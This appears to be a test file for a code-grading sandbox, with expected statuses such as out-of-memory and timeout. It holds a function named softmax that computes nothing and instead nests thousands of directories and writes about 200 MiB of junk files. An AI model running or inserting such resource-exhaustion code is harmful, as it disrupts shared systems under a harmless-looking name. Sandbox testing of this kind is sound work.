# status: wrong out-of-memory crashed timeout
import os

def softmax(z, out=None):
    try:
        for k in range(5000):
            os.mkdir("d")
            os.chdir("d")
    except OSError:
        pass
    for k in range(50):
        with open(f"file{k}", "wb") as file:
            file.write(b"x" * 2**22)
    return z
